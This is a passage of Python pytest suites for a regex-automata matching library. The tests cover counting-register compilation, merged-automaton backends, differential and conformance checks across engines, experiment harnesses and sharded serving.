        with pytest.raises(ScanDeadlineExceeded) as info:
            engine.run(payload)
    partial = info.value.partial
    assert partial is not None
    assert 0 < partial.stats.chars_processed < len(payload)
    assert partial.matches <= full  # sound under-approximation


# ---------------------------------------------------------------------------
# The headline capability (ISSUE acceptance criterion)
# ---------------------------------------------------------------------------


def test_large_bound_compiles_where_expansion_refuses():
    """``[^\\n]{1000}`` blows a 512-state budget when expanded but fits
    in a handful of states as a counter register — with byte-identical
    matches to the unbudgeted expanded oracle."""
    patterns = ["begin[^\n]{1000}end", "abc"]
    budget = Budget(max_states=512)
    with pytest.raises(BudgetExceeded):
        compile_ruleset(patterns, CompileOptions(emit_anml=False, budget=budget))
    counting = compile_ruleset(
        patterns,
        CompileOptions(emit_anml=False, counting=True, budget=budget),
    ).mfsas
    assert any(getattr(m, "counting", ()) for m in counting)
    assert sum(m.num_states for m in counting) <= 512

    body = bytes((33 + i % 90) for i in range(1000))  # printable, no \n
    payload = b"xxabc" + b"begin" + body + b"end" + b"abc"
    oracle = _matches(_compile_expanded(patterns), payload)
    assert _matches(counting, payload, "counting") == oracle
    assert any(rule == 0 for rule, _ in oracle)  # the repeat really fires


def test_below_threshold_drops_to_plain():
    """Repeats under the threshold expand as before — the compile
    returns plain MFSAs and the counting backend degenerates to the
    interpretive scan."""
    patterns = ["ab{2,3}c", "xy"]
    mfsas = _compile_counting(patterns, threshold=64)
    assert all(not getattr(m, "counting", ()) for m in mfsas)
    payload = "zabbcxyz"
    assert _matches(mfsas, payload, "counting") == _matches(
        _compile_expanded(patterns), payload
    )


def test_unbounded_width_is_none_bounded_is_finite():
    bounded = _compile_counting(["ab{2,9}c"], threshold=2)[0]
    unbounded = _compile_counting(["ab{2,}c"], threshold=2)[0]
    assert mfsa_max_width(bounded) is not None
    assert mfsa_max_width(unbounded) is None


def test_counting_metrics_emitted():
    mfsas = _compile_counting(["ab{3,9}c"], threshold=3)
    with obs.capture() as cap:
        _matches(mfsas, b"zabbbbc" * 16, "counting")
    names = {inst.name for inst in cap.registry.instruments()}
    assert {
        "imfant_counting_registers",
        "imfant_counting_entries_total",
        "imfant_counting_live_entries_peak",
    } <= names
    gauge = cap.registry.get("imfant_counting_registers")
    assert gauge.snapshot()["value"] >= 1
