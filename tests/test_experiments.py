"""Smoke/shape tests for the experiment harnesses (tiny configurations)."""

import pytest

from repro.reporting.experiments import (
    ExperimentConfig,
    dataset_bundle,
    experiment_active_sets,
    experiment_compilation_time,
    experiment_compression,
    experiment_dataset_stats,
    experiment_scaling,
    experiment_similarity,
    experiment_throughput,
    scaling_summary,
)
from repro.reporting.tables import format_table, geometric_mean

TINY = ExperimentConfig(
    datasets=("BRO", "TCP"),
    scale=12,
    stream_size=1024,
    merging_factors=(1, 2, 5, 0),
    threads=(1, 2, 4, 8),
)


class TestConfig:
    def test_factors_for_drops_oversized(self):
        config = ExperimentConfig(merging_factors=(1, 2, 100, 0))
        assert config.factors_for(10) == [1, 2, 0]

    def test_factors_without_all(self):
        config = ExperimentConfig(merging_factors=(1, 2))
        assert config.factors_for(10) == [1, 2]

    def test_bundle_cached(self):
        assert dataset_bundle("BRO", TINY) is dataset_bundle("BRO", TINY)


class TestSimilarity:
    def test_values_in_unit_interval(self):
        sims = experiment_similarity(TINY)
        assert set(sims) == {"BRO", "TCP"}
        assert all(0 <= v <= 1 for v in sims.values())


class TestDatasetStats:
    def test_table1_fields(self):
        stats = experiment_dataset_stats(TINY)
        for row in stats.values():
            assert row["num_res"] >= 8
            assert row["avg_states"] > 1
            assert row["total_transitions"] > 0


class TestCompression:
    def test_monotone_in_m(self):
        """Fig. 7 shape: more merging → more compression."""
        data = experiment_compression(TINY)
        for per_m in data.values():
            states_2 = per_m[2][0]
            states_all = per_m[0][0]
            assert states_all >= states_2 > 0

    def test_states_compress_more_than_transitions(self):
        """Fig. 7 shape: state reduction dominates transition reduction."""
        data = experiment_compression(TINY)
        for per_m in data.values():
            state_c, trans_c = per_m[0]
            assert state_c > trans_c


class TestCompilationTime:
    def test_stage_names(self):
        data = experiment_compilation_time(TINY, repetitions=1)
        for per_m in data.values():
            for stages in per_m.values():
                assert set(stages) == {"FE", "AST to FSA", "ME-single", "ME-merging", "BE"}

    def test_merging_dominates_at_all(self):
        """Fig. 8 shape: at M=all the merging stage dwarfs the per-RE
        front-end stages, and grows with M while FE stays flat.  (BE and
        ME-single are excluded — their margins are too narrow at test
        scale for a robust timing assertion.)"""
        data = experiment_compilation_time(TINY, repetitions=3, aggregate="min")
        for per_m in data.values():
            at_all = per_m[0]
            at_two = per_m[2]
            assert at_all["ME-merging"] > at_all["FE"]
            assert at_all["ME-merging"] > at_all["AST to FSA"]
            assert at_all["ME-merging"] > at_two["ME-merging"]


class TestThroughput:
    def test_improvement_above_one_for_merged(self):
        """Fig. 9 shape: merging beats the M=1 baseline."""
        data = experiment_throughput(TINY)
        for per_m in data.values():
            assert per_m[1]["improvement"] == pytest.approx(1.0)
            assert per_m[0]["improvement"] > 1.0

    def test_throughput_consistent_with_work(self):
        data = experiment_throughput(TINY)
        for per_m in data.values():
            for row in per_m.values():
                assert row["throughput"] == pytest.approx(
                    TINY.stream_size * len(dataset_bundle("BRO", TINY).ruleset) / row["work"],
                    rel=1,  # rules count differs per dataset; just positivity+finite
                )
                assert row["work"] > 0


class TestScaling:
    def test_latency_monotone_in_threads(self):
        data = experiment_scaling(TINY)
        for per_m in data.values():
            for series in per_m.values():
                values = [series[t] for t in sorted(series)]
                assert values == sorted(values, reverse=True)

    def test_summary_fields(self):
        data = experiment_scaling(TINY)
        for per_m in data.values():
            summary = scaling_summary(per_m)
            assert summary["speedup"] > 0
            assert summary["mfsa_threads_to_match_single"] >= 1

    def test_mfsa_needs_fewer_threads(self):
        """Fig. 10 shape: some M>1 configuration reaches the best multi-
        threaded single-FSA latency with at most 2 threads."""
        data = experiment_scaling(TINY)
        for per_m in data.values():
            assert scaling_summary(per_m)["mfsa_threads_to_match_single"] <= 2


class TestActiveSets:
    def test_table2_fields(self):
        data = experiment_active_sets(TINY)
        for row in data.values():
            assert row["avg_active"] >= 0
            assert row["max_active"] >= 1


class TestTables:
    def test_format_table(self):
        text = format_table(("a", "bbb"), [(1, 2.5), ("x", 0.001)], title="T")
        lines = text.splitlines()
        assert lines[0] == "T"
        assert "bbb" in lines[1]
        assert len(lines) == 5

    def test_geometric_mean(self):
        assert geometric_mean([1, 4]) == pytest.approx(2.0)
        with pytest.raises(ValueError):
            geometric_mean([])
        with pytest.raises(ValueError):
            geometric_mean([0.0, 1.0])
