"""Tests for the ASCII chart renderers."""

from repro.reporting.plots import bar_chart, grouped_bar_chart, line_chart


class TestBarChart:
    def test_basic_shape(self):
        text = bar_chart({"A": 10.0, "B": 5.0}, title="T", width=20)
        lines = text.splitlines()
        assert lines[0] == "T"
        assert lines[1].count("█") == 20  # the max fills the width
        assert lines[2].count("█") == 10

    def test_values_rendered(self):
        text = bar_chart({"X": 0.337})
        assert "0.337" in text

    def test_unit_suffix(self):
        assert "7%" in bar_chart({"A": 7.0}, unit="%")

    def test_empty(self):
        assert bar_chart({}, title="nothing") == "nothing"

    def test_zero_peak(self):
        text = bar_chart({"A": 0.0})
        assert "█" not in text


class TestGroupedBarChart:
    def test_groups_and_rows(self):
        text = grouped_bar_chart({"G1": {"a": 1.0, "b": 2.0}, "G2": {"a": 2.0}})
        assert "G1:" in text and "G2:" in text
        assert text.count("|") == 6  # two bars + one bar, two pipes each

    def test_shared_scale(self):
        text = grouped_bar_chart({"G1": {"a": 10.0}, "G2": {"a": 5.0}}, width=10)
        lines = [l for l in text.splitlines() if "|" in l]
        assert lines[0].count("█") == 10
        assert lines[1].count("█") == 5


class TestLineChart:
    SERIES = {
        "one": [(1.0, 10.0), (2.0, 20.0), (3.0, 40.0)],
        "two": [(1.0, 40.0), (2.0, 20.0), (3.0, 10.0)],
    }

    def test_markers_and_legend(self):
        text = line_chart(self.SERIES, title="L")
        assert text.startswith("L")
        assert "o one" in text and "x two" in text
        assert "o" in text and "x" in text

    def test_axis_labels(self):
        text = line_chart(self.SERIES)
        assert "40" in text  # top y label
        assert "10" in text  # bottom y label
        assert "1" in text and "3" in text  # x extremes

    def test_log_scale_labels(self):
        text = line_chart({"s": [(0.0, 10.0), (1.0, 1000.0)]}, log_y=True)
        assert "1e+03" in text or "1000" in text

    def test_empty(self):
        assert line_chart({}, title="none") == "none"

    def test_single_point(self):
        text = line_chart({"s": [(5.0, 5.0)]})
        assert "o" in text
