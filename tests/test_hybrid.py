"""Tests for the hybrid (MFSA + counting) ruleset engine."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.automata.optimize import compile_re_to_fsa
from repro.automata.simulate import find_match_ends
from repro.engine.hybrid import HybridEngine, rule_needs_counting

from conftest import ere_patterns, input_strings


class TestSplit:
    def test_detects_large_repeats(self):
        assert rule_needs_counting("a{100}b")
        assert rule_needs_counting("x[0-9]{50,90}")
        assert not rule_needs_counting("abc")
        assert not rule_needs_counting("a{3}b")
        assert not rule_needs_counting("(ab){100}")  # width-2 body: expands

    def test_threshold_dial(self):
        assert rule_needs_counting("a{10}", threshold=5)
        assert not rule_needs_counting("a{10}", threshold=50)

    def test_unbounded_low_counts(self):
        assert rule_needs_counting("a{100,}b")

    def test_engine_reports_split(self):
        engine = HybridEngine(["abc", "x{99}y", "def"])
        assert engine.counting_rule_ids == [1]
        _, report = engine.run("abcdef")
        assert report.merged_rules == 2
        assert report.counting_rules == 1


class TestMatching:
    def test_mixed_ruleset(self):
        patterns = ["abc", "a{40}b", "xyz"]
        engine = HybridEngine(patterns)
        text = "abc" + "a" * 40 + "b" + "xyz"
        matches, _ = engine.run(text)
        expected = set()
        for rule_id, pattern in enumerate(patterns):
            expected |= {(rule_id, e)
                         for e in find_match_ends(compile_re_to_fsa(pattern), text)}
        assert matches == expected

    def test_rule_ids_preserved_after_split(self):
        """Counting rules in the middle must not shift merged rule ids."""
        patterns = ["aaa", "z{60}", "bbb"]
        engine = HybridEngine(patterns)
        matches, _ = engine.run("aaabbb")
        assert matches == {(0, 3), (2, 6)}

    def test_all_counting(self):
        engine = HybridEngine(["a{40}", "b{50}"])
        matches, report = engine.run("a" * 40)
        assert matches == {(0, 40)}
        assert report.merged_rules == 0

    def test_all_merged(self):
        engine = HybridEngine(["ab", "cd"])
        matches, report = engine.run("abcd")
        assert matches == {(0, 2), (1, 4)}
        assert report.counting_rules == 0
        assert report.mfsa_count == 1

    def test_huge_bound_correct(self):
        """A bound far past the expansion budget still matches exactly."""
        engine = HybridEngine(["ab", "x{500}y"])
        text = "ab" + "x" * 500 + "y"
        matches, _ = engine.run(text)
        assert (1, 503) in matches and (0, 2) in matches

    def test_merging_factor_forwarded(self):
        engine = HybridEngine(["ab", "cd", "ef"], merging_factor=1)
        _, report = engine.run("abcdef")
        assert report.mfsa_count == 3


class TestRunParallel:
    def test_matches_equal_sequential_run(self):
        engine = HybridEngine(["abc", "a.*b", "x{40,60}y", "(ab)+"])
        data = b"abc" + b"a" + b"q" * 100 + b"b" + b"x" * 50 + b"y" + b"abab" * 20
        sequential, _ = engine.run(data)
        parallel, report = engine.run_parallel(data, num_threads=4, chunk_size=32)
        assert parallel == sequential
        assert report.scan_strategy  # the chunked path records what ran

    def test_auto_resolves_per_mfsa(self):
        # bounded-only merged side: auto keeps overlap chunking
        engine = HybridEngine(["abc", "defg"])
        _, report = engine.run_parallel(b"zabcdefgz" * 40, chunk_size=64)
        assert report.scan_strategy == "overlap"
        # an unbounded rule in the merge flips it to mapping scans
        engine = HybridEngine(["abc", "a.*b"])
        _, report = engine.run_parallel(b"zabcdefgz" * 40, chunk_size=64)
        assert report.scan_strategy == "sfa"

    def test_forced_strategy_forwarded(self):
        engine = HybridEngine(["abc", "defg"])
        data = b"zabcdefgz" * 40
        sequential, _ = engine.run(data)
        parallel, report = engine.run_parallel(
            data, chunk_size=64, scan_strategy="sfa"
        )
        assert parallel == sequential
        assert report.scan_strategy == "sfa"

    def test_sequential_report_strategy_empty(self):
        _, report = HybridEngine(["ab"]).run("ab")
        assert report.scan_strategy == ""


@given(st.data())
@settings(max_examples=50, deadline=None)
def test_hybrid_equals_baseline_property(data):
    """With a low threshold (everything countable counts), the hybrid
    engine equals the per-rule expansion baseline."""
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=4))
    text = data.draw(input_strings())
    engine = HybridEngine(patterns, counting_threshold=2)
    matches, _ = engine.run(text)
    expected = set()
    for rule_id, pattern in enumerate(patterns):
        expected |= {(rule_id, e) for e in find_match_ends(compile_re_to_fsa(pattern), text)}
    assert matches == expected
