"""Tests for the AST static analyses (widths, exact sets, required factors)."""

import re

import pytest
from hypothesis import given, settings

from repro.frontend.analysis import (
    exact_strings,
    max_width,
    min_width,
    required_literals,
)
from repro.frontend.parser import parse

from conftest import ere_patterns, input_strings


class TestWidths:
    @pytest.mark.parametrize("pattern,lo,hi", [
        ("", 0, 0),
        ("a", 1, 1),
        ("abc", 3, 3),
        ("a|bc", 1, 2),
        ("a?", 0, 1),
        ("a*", 0, None),
        ("a+", 1, None),
        ("a{2,5}", 2, 5),
        ("a{3,}", 3, None),
        ("(ab|c)d{2}", 3, 4),
        ("(a*)?", 0, None),
    ])
    def test_known_bounds(self, pattern, lo, hi):
        node = parse(pattern)
        assert min_width(node) == lo
        assert max_width(node) == hi

    def test_zero_width_star_of_empty(self):
        assert max_width(parse("(a{0})*")) == 0


class TestExactStrings:
    @pytest.mark.parametrize("pattern,expected", [
        ("a", {"a"}),
        ("ab|cd", {"ab", "cd"}),
        ("[ab]c", {"ac", "bc"}),
        ("a{1,2}", {"a", "aa"}),
        ("a(b|)", {"ab", "a"}),
        ("", {""}),
    ])
    def test_finite_languages(self, pattern, expected):
        assert exact_strings(parse(pattern)) == frozenset(expected)

    def test_unbounded_is_none(self):
        assert exact_strings(parse("a*")) is None
        assert exact_strings(parse("a+b")) is None

    def test_wide_class_is_none(self):
        assert exact_strings(parse("[a-z]")) is None

    def test_explosion_capped(self):
        assert exact_strings(parse("[ab][ab][ab][ab][ab][ab][ab]")) is None


class TestRequiredLiterals:
    def test_plain_string(self):
        req = required_literals(parse("hello"))
        assert req is not None and req.literals == frozenset({"hello"})

    def test_alternation_union(self):
        req = required_literals(parse("(foo|barbaz)"))
        assert req.literals == frozenset({"foo", "barbaz"})

    def test_dotstar_pattern_keeps_factors(self):
        req = required_literals(parse("foo.*barbar"))
        assert req is not None
        # the longer factor wins the quality score
        assert "barbar" in req.literals

    def test_optional_parts_not_required(self):
        req = required_literals(parse("(abc)?x"))
        assert req is not None
        assert req.literals == frozenset({"x"})

    def test_wide_class_pattern_may_fail(self):
        assert required_literals(parse("[a-z]+")) is None

    def test_star_only_pattern(self):
        assert required_literals(parse("(abc)*")) is None

    def test_plus_body_required(self):
        req = required_literals(parse("(abc)+"))
        assert req.literals == frozenset({"abc"})


@given(ere_patterns(), input_strings())
@settings(max_examples=200, deadline=None)
def test_width_bounds_sound(pattern, text):
    """Any actual full match length lies within [min_width, max_width]."""
    node = parse(pattern)
    oracle = re.compile(f"(?:{pattern})\\Z")
    if oracle.match(text):
        assert min_width(node) <= len(text)
        widest = max_width(node)
        if widest is not None:
            assert len(text) <= widest


@given(ere_patterns(), input_strings())
@settings(max_examples=200, deadline=None)
def test_required_literals_sound(pattern, text):
    """Every matching string contains one of the required factors."""
    node = parse(pattern)
    req = required_literals(node)
    if req is None:
        return
    oracle = re.compile(f"(?:{pattern})\\Z")
    if oracle.match(text):
        assert any(literal in text for literal in req.literals), (pattern, text, req)


@given(ere_patterns())
@settings(max_examples=150, deadline=None)
def test_exact_strings_sound(pattern):
    """When finite, the exact set IS the language (checked via re)."""
    node = parse(pattern)
    strings = exact_strings(node)
    if strings is None:
        return
    oracle = re.compile(f"(?:{pattern})\\Z")
    for s in strings:
        assert oracle.match(s), (pattern, s)
