"""Grand differential property test: every execution path, one oracle.

For a random ruleset and stream, the following must all report the exact
same ``(rule, end)`` set:

1. per-rule reference NFA simulation (itself validated against `re`);
2. iNFAnt per rule (python + numpy backends);
3. iMFAnt over the merged MFSA (python + numpy + lazy), at several M;
4. the activation-function reference executor;
5. the streaming chunked matcher;
6. the ANML write→read→execute path;
7. the decomposition prefilter engine;
8. the DFA pipeline (subset construction → minimise → D2FA), when it
   fits the state budget;
9. the counting-set engine, rule by rule.

One failing engine pinpoints itself via the labelled assertion.
"""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.anml import read_anml, write_anml
from repro.automata.optimize import compile_re_to_fsa
from repro.automata.simulate import find_match_ends
from repro.counting import CountingSetEngine, build_counting_fsa
from repro.decompose.engine import PrefilterEngine
from repro.dfa import (
    D2faEngine,
    DfaEngine,
    DfaExplosionError,
    compress_default_transitions,
    determinize,
    minimize,
)
from repro.engine.imfant import IMfantEngine
from repro.engine.infant import INfantEngine
from repro.engine.streaming import StreamingMatcher
from repro.mfsa.activation import reference_match
from repro.mfsa.merge import merge_fsas, merge_ruleset

from conftest import ere_patterns, input_strings


@given(st.data())
@settings(max_examples=50, deadline=None)
def test_all_engines_agree(data):
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=4))
    text = data.draw(input_strings())
    fsas = [(i, compile_re_to_fsa(p)) for i, p in enumerate(patterns)]

    oracle = set()
    for rule_id, fsa in fsas:
        oracle |= {(rule_id, e) for e in find_match_ends(fsa, text)}

    # 2. iNFAnt per rule
    for backend in ("python", "numpy"):
        got = set()
        for rule_id, fsa in fsas:
            got |= INfantEngine(fsa, rule_id, backend=backend).run(text).matches
        assert got == oracle, f"iNFAnt[{backend}]"

    # 3. iMFAnt at several merging factors (all five backends; lazy
    #    exercising its config-cache memoization, dense running cold —
    #    i.e. through the same lazy path under the dense driver — and
    #    counting in its zero-register degenerate mode on plain MFSAs)
    for m in (1, 2, 0):
        mfsas = merge_ruleset(fsas, m)
        for backend in ("python", "numpy", "lazy", "dense", "counting"):
            got = set()
            for mfsa in mfsas:
                got |= IMfantEngine(mfsa, backend=backend).run(text).matches
            assert got == oracle, f"iMFAnt[{backend}] M={m}"

    # 3b. dense with its tier force-promoted at a hypothesis-drawn
    #     warm-up cut: wherever the compiled region ends, the scan must
    #     de-opt mid-buffer and still agree with the oracle
    cut = data.draw(st.integers(min_value=0, max_value=len(text)))
    got = set()
    for mfsa in merge_ruleset(fsas, 0):
        engine = IMfantEngine(mfsa, backend="dense")
        if cut:
            engine.run(text[:cut], collect_stats=False)
        engine.promote_dense(force=True)
        got |= engine.run(text).matches
    assert got == oracle, f"iMFAnt[dense promoted] cut={cut}"

    merged = merge_fsas(fsas)

    # 4. activation reference
    assert reference_match(merged, text) == oracle, "activation reference"

    # 5. streaming matcher, chunked at a prime stride
    matcher = StreamingMatcher(merged)
    for start in range(0, max(1, len(text)), 3):
        matcher.feed(text[start : start + 3])
    assert matcher.matches == oracle, "streaming"

    # 6. ANML round trip
    recovered = read_anml(write_anml(merged))
    assert IMfantEngine(recovered).run(text).matches == oracle, "ANML round-trip"

    # 7. decomposition prefilter
    prefilter_matches, _ = PrefilterEngine(patterns).run(text)
    assert prefilter_matches == oracle, "prefilter"

    # 8. DFA pipeline
    try:
        dfa = determinize(fsas, max_states=2000)
    except DfaExplosionError:
        dfa = None
    if dfa is not None:
        assert DfaEngine(dfa).run(text).matches == oracle, "DFA"
        small = minimize(dfa)
        assert DfaEngine(small).run(text).matches == oracle, "minDFA"
        d2fa = compress_default_transitions(small)
        assert D2faEngine(d2fa).run(text).matches == oracle, "D2FA"

    # 9. counting-set engine per rule (counting enabled for any bound)
    got = set()
    for rule_id, pattern in enumerate(patterns):
        cfsa = build_counting_fsa(pattern, min_count_bound=2)
        got |= CountingSetEngine(cfsa, rule_id).run(text).matches
    assert got == oracle, "counting-set"
