"""Cross-backend conformance suite: one oracle, every execution surface.

The differential property tests (tests/test_differential.py) fuzz small
random rulesets; this suite pins down the *curated* surface instead —
every builtin ruleset, every iMFAnt backend (python / numpy / lazy /
dense — the last both cold and with its compiled tier force-promoted —
plus counting, which on plain automata degenerates to the interpretive
scan with zero registers) and the sharded serving path must report
byte-identical results:

* identical ``(rule, end)`` match sets;
* identical :class:`~repro.engine.counters.ExecutionStats` (modulo
  ``wall_seconds``, the only timing-dependent field);
* identical engine-sampler histograms (``imfant_active_set_size``,
  ``imfant_frontier_width``, ``imfant_transitions_per_byte``) captured
  under the same sampling stride;
* the serve path (ShardPool and the full socket round trip) equal to a
  single-process single-shard scan, including boundary-spanning matches
  and ``single_match`` semantics.

See docs/testing.md for the conformance-oracle pattern these implement.
"""

from __future__ import annotations

import pytest

import repro.obs as obs
from repro.cli import _demo_stream
from repro.datasets import list_builtin, load_builtin
from repro.engine.chunkscan import ruleset_max_width
from repro.engine.counters import ExecutionStats
from repro.engine.imfant import IMfantEngine
from repro.pipeline.compiler import CompileOptions, compile_ruleset

BACKENDS = ("python", "numpy", "lazy", "dense", "counting")

#: The sampler quartet every backend must fill identically.  The lazy
#: backend additionally registers ``imfant_lazy_cache_*`` instruments;
#: those are backend-private and excluded on purpose.
SAMPLER_METRICS = (
    "imfant_active_set_size",
    "imfant_frontier_width",
    "imfant_transitions_per_byte",
    "imfant_samples_total",
)

STREAM_BYTES = 4096
SAMPLE_STRIDE = 17  # prime → samples hit varied positions


@pytest.fixture(scope="module")
def compiled_builtins():
    """name → (patterns, mfsas); compiled once for the whole module."""
    out = {}
    for name in list_builtin():
        patterns = list(load_builtin(name).patterns)
        result = compile_ruleset(patterns, CompileOptions(emit_anml=False))
        out[name] = (patterns, result.mfsas)
    return out


def _run_all(mfsas, text, backend, single_match=False, promote=False):
    """(matches, stats-dict-without-wall, sampler-snapshots) for one backend.

    ``promote=True`` (dense only) warms each engine on the full stream
    and force-compiles the tier first, so the measured run exercises the
    compiled tables + de-opt machinery instead of the lazy ramp-up.
    """
    engines = [
        IMfantEngine(mfsa, backend=backend, single_match=single_match)
        for mfsa in mfsas
    ]
    if promote:  # outside the capture: the warm-up must not be sampled
        for engine in engines:
            engine.run(text, collect_stats=False)
            assert engine.promote_dense(force=True)
    with obs.capture(stride=SAMPLE_STRIDE) as cap:
        matches: set = set()
        totals = ExecutionStats()
        for engine in engines:
            run = engine.run(text)
            matches |= run.matches
            totals.merge(run.stats)
        histograms = {
            name: cap.registry.get(name).snapshot() if cap.registry.get(name) else None
            for name in SAMPLER_METRICS
        }
    stats = totals.as_dict()
    stats.pop("wall_seconds")  # the only wall-clock-dependent field
    return matches, stats, histograms


# ---------------------------------------------------------------------------
# Backend conformance over every builtin ruleset
# ---------------------------------------------------------------------------


@pytest.mark.parametrize("name", [
    "dotstar_rules",
    "http_signatures",
    "log_patterns",
    "protein_motifs",
    "range_rules",
    "tokens_exact",
])
def test_backends_agree_on_builtin(compiled_builtins, name):
    if name not in compiled_builtins:
        pytest.skip(f"builtin ruleset {name!r} not shipped")
    patterns, mfsas = compiled_builtins[name]
    text = _demo_stream(patterns, STREAM_BYTES).decode("latin-1")

    reference = _run_all(mfsas, text, "python")
    for backend in BACKENDS[1:]:
        matches, stats, histograms = _run_all(mfsas, text, backend)
        assert matches == reference[0], f"{name}: {backend} match set"
        assert stats == reference[1], f"{name}: {backend} ExecutionStats"
        assert histograms == reference[2], f"{name}: {backend} sampler histograms"

    # dense with the compiled tier actually active (cold dense above
    # runs the lazy ramp; this run steps the tables + de-opt machinery)
    matches, stats, histograms = _run_all(mfsas, text, "dense", promote=True)
    assert matches == reference[0], f"{name}: promoted dense match set"
    assert stats == reference[1], f"{name}: promoted dense ExecutionStats"
    assert histograms == reference[2], f"{name}: promoted dense sampler histograms"


@pytest.mark.counting
@pytest.mark.parametrize("name", [
    "dotstar_rules",
    "http_signatures",
    "log_patterns",
])
def test_counting_compile_conformance(compiled_builtins, name):
    """Builtins with ``{m,n}`` repeats compiled through the counting
    pipeline must agree with the expansion pipeline on every backend:
    the counting backend runs the registers, every other backend runs
    the ``expand()`` bridge over the same CountingMfsa.  Stats cannot
    match across differently-shaped automata, so this asserts the match
    sets (the stats legs above cover the per-automaton invariance)."""
    if name not in compiled_builtins:
        pytest.skip(f"builtin ruleset {name!r} not shipped")
    patterns, expanded_mfsas = compiled_builtins[name]
    counted = compile_ruleset(
        patterns,
        CompileOptions(emit_anml=False, counting=True, count_threshold=2),
    )
    text = _demo_stream(patterns, STREAM_BYTES).decode("latin-1")

    reference, _, _ = _run_all(expanded_mfsas, text, "python")
    for backend in BACKENDS:
        matches, _, _ = _run_all(counted.mfsas, text, backend)
        assert matches == reference, f"{name}: counting-compiled {backend}"


def test_builtin_parametrization_is_complete(compiled_builtins):
    """The explicit list above must cover every shipped builtin ruleset."""
    listed = {
        "dotstar_rules", "http_signatures", "log_patterns",
        "protein_motifs", "range_rules", "tokens_exact",
    }
    assert set(compiled_builtins) <= listed, (
        "new builtin ruleset shipped — add it to test_backends_agree_on_builtin"
    )


@pytest.mark.parametrize("name", ["tokens_exact", "log_patterns"])
@pytest.mark.parametrize("backend", BACKENDS)
def test_single_match_conformance(compiled_builtins, name, backend):
    """single_match must be exactly 'first (min-end) match per rule'."""
    if name not in compiled_builtins:
        pytest.skip(f"builtin ruleset {name!r} not shipped")
    patterns, mfsas = compiled_builtins[name]
    text = _demo_stream(patterns, STREAM_BYTES).decode("latin-1")

    full: set = set()
    first: set = set()
    for mfsa in mfsas:
        full |= IMfantEngine(mfsa, backend=backend).run(text).matches
        first |= IMfantEngine(mfsa, backend=backend, single_match=True).run(text).matches

    expected = {}
    for rule, end in full:
        if rule not in expected or end < expected[rule]:
            expected[rule] = end
    assert first == {(rule, end) for rule, end in expected.items()}


@pytest.mark.parametrize("backend", BACKENDS)
def test_empty_matching_rules_conformance(backend):
    """Rules accepting ε must report a match at *every* position."""
    patterns = ["a*", "abc"]
    result = compile_ruleset(patterns, CompileOptions(emit_anml=False))
    text = "xxabcaax"
    matches: set = set()
    for mfsa in result.mfsas:
        matches |= IMfantEngine(mfsa, backend=backend).run(text).matches
    # rule 0 (a*) matches the empty string at every boundary 0..len.
    assert {(0, e) for e in range(len(text) + 1)} <= matches
    assert (1, 5) in matches  # "abc" ends at offset 5


# ---------------------------------------------------------------------------
# Serve-path conformance (ShardPool + full socket round trip)
# ---------------------------------------------------------------------------


def _oracle(mfsas, payload: bytes) -> set:
    text = payload.decode("latin-1")
    matches: set = set()
    for mfsa in mfsas:
        matches |= IMfantEngine(mfsa).run(text).matches
    return matches


@pytest.mark.serve
@pytest.mark.parametrize("num_shards", [2, 3, 5])
def test_shard_pool_equals_single_pass(compiled_builtins, num_shards):
    from repro.serve.artifacts import Artifact, ruleset_key
    from repro.serve.shards import ShardPool

    patterns, mfsas = compiled_builtins["tokens_exact"]
    assert ruleset_max_width(patterns) is not None  # bounded → really shards
    payload = _demo_stream(patterns, STREAM_BYTES)
    # Plant a boundary-spanning occurrence dead on every possible cut.
    token = b"MAIL FROM:<"
    for cut in range(1, num_shards):
        pos = cut * len(payload) // num_shards - len(token) // 2
        payload = payload[:pos] + token + payload[pos + len(token):]

    artifact = Artifact(
        key=ruleset_key(patterns),
        patterns=list(patterns),
        mfsas=list(mfsas),
        loaded_from_cache=False,
    )
    with ShardPool(artifact, num_shards=num_shards, backend="lazy") as pool:
        result = pool.scan(payload)
    assert result.shards == num_shards
    assert not result.partial
    assert result.matches == _oracle(mfsas, payload)


@pytest.mark.serve
@pytest.mark.sfa
@pytest.mark.parametrize("name,strategy", [
    ("dotstar_rules", "auto"),   # unbounded → auto resolves to mapping scans
    ("tokens_exact", "sfa"),     # bounded but forced onto the mapping path
])
@pytest.mark.parametrize("num_shards", [2, 4])
def test_shard_pool_sfa_equals_single_pass(compiled_builtins, name, strategy,
                                           num_shards):
    """Mapping-mode sharding (zero overlap bytes) must stay byte-identical
    to the single-shot oracle — including on unbounded rulesets, where
    the overlap planner previously fell back to a sequential scan."""
    from repro.serve.artifacts import Artifact, ruleset_key
    from repro.serve.shards import ShardPool

    patterns, mfsas = compiled_builtins[name]
    if name == "dotstar_rules":
        assert ruleset_max_width(patterns) is None  # genuinely unbounded
    payload = _demo_stream(patterns, STREAM_BYTES)

    artifact = Artifact(
        key=ruleset_key(patterns),
        patterns=list(patterns),
        mfsas=list(mfsas),
        loaded_from_cache=False,
    )
    with ShardPool(artifact, num_shards=num_shards,
                   scan_strategy=strategy) as pool:
        assert pool.scan_strategy == "sfa"
        result = pool.scan(payload)
    assert result.shards == num_shards
    assert result.strategy == "sfa"
    assert not result.partial
    assert result.matches == _oracle(mfsas, payload)

    single = Artifact(
        key=ruleset_key(patterns), patterns=list(patterns),
        mfsas=list(mfsas), loaded_from_cache=False,
    )
    with ShardPool(single, num_shards=num_shards,
                   scan_strategy=strategy) as pool:
        first = pool.scan(payload, single_match=True)
    expected = {}
    for rule, end in result.matches:
        if rule not in expected or end < expected[rule]:
            expected[rule] = end
    assert first.matches == {(r, e) for r, e in expected.items()}


@pytest.mark.serve
def test_serve_socket_round_trip_equals_single_process(compiled_builtins, tmp_path):
    """End to end: repro serve + client == single-process match, ≥2 shards."""
    from repro.serve import ArtifactStore, MatchClient, ServeConfig, ServerThread

    patterns, mfsas = compiled_builtins["protein_motifs"]
    payload = _demo_stream(patterns, STREAM_BYTES, seed=3)
    # Straddle the 2-shard midpoint with a known motif occurrence.
    motif = patterns[0].encode("latin-1")
    if motif.isalnum():
        mid = len(payload) // 2 - len(motif) // 2
        payload = payload[:mid] + motif + payload[mid + len(motif):]

    artifact = ArtifactStore(tmp_path / "cache").get_or_compile(
        patterns, CompileOptions(emit_anml=False)
    )
    config = ServeConfig(shards=2, batch_max=4, queue_depth=16)
    with ServerThread(artifact, config) as address:
        with MatchClient.connect(address) as client:
            result = client.match(payload)
